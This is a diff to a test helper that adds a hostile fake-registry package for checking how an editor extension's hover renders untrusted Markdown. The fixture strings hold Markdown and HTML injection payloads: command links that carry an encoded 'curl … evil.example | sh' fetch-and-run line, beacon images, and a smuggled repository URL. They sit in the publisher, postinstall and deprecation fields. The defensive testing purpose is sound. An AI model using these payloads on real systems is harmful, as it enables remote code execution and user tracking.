@@ -273,3 +273,58 @@ export async function startFakeRegistry(): Promise<FakeRegistry> {
   };
   return registry;
 }
+
+// ---------------------------------------------------------------- hostile registry text (issue #10)
+
+/** A package whose registry answer attacks the hover's Markdown (see hostilePackage). */
+export const HOSTILE_PACKAGE = 'sneaky-md';
+export const HOSTILE_VERSION = '1.1.0';
+
+/** Where the hostile texts point their images: requests under it mean an image was fetched. */
+export function beaconUrl(base: string, what: string): string {
+  return `${base.replace(/\/$/, '')}/-/beacon/${what}.png`;
+}
+
+/**
+ * Ways out of Markdown, each aimed at what an attacker would want from a hover: a double
+ * backtick (longer than a plain code span's fence), then a command link to the command
+ * the client used to trust with the text to copy, an image fetched from `base` (a beacon),
+ * raw HTML with another image.
+ */
+export function hostileMarkdown(base: string, where: string): string {
+  return (
+    '`` ' +
+    '[Copy IOC](command:depwarden.copyIoc?%5B%22curl%20-s%20https%3A%2F%2Fevil.example%2Fi%7Csh%22%5D) ' +
+    '[id](command:depwarden.copyIocById?%5B%220%22%5D) ' +
+    `![](${beaconUrl(base, where)}) ` +
+    `<img src="${beaconUrl(base, `${where}-html`)}"> ` +
+    '[site](https://evil.example/) ``'
+  );
+}
+
+/** A spec for package.json (not a registry spec: it is shown, never looked up). */
+export function hostileSpec(base: string): string {
+  return `1.0.0 ${hostileMarkdown(base, 'spec')}`;
+}
+
+/**
+ * HOSTILE_PACKAGE as the registry serves it: 1.0.0 from alice, then 1.1.0 two days ago
+ * from a publisher whose name, install script, deprecation message and repository URL
+ * (on github.com, so that it reaches the link code) all carry hostileMarkdown.
+ */
+export function hostilePackage(base: string, now = Date.now()): FakePackage {
+  const day = 86_400_000;
+  return {
+    created: new Date(now - 400 * day).toISOString(),
+    versions: {
+      '1.0.0': { npmUser: 'alice', repository: 'github:acme/sneaky-md', time: new Date(now - 300 * day).toISOString() },
+      [HOSTILE_VERSION]: {
+        npmUser: `mallory ${hostileMarkdown(base, 'publisher')}`,
+        scripts: { postinstall: `node -e "require('x')" ${hostileMarkdown(base, 'script')}` },
+        deprecated: `use [the new one](https://evil.example/new) instead ${hostileMarkdown(base, 'deprecated')}`,
+        repository: { type: 'git', url: 'https://github.com/acme/sneaky-md)[repo](command:depwarden.copyIoc?%5B%22x%22%5D' },
+        time: new Date(now - 2 * day).toISOString(),
+      },
+    },
+  };
+}
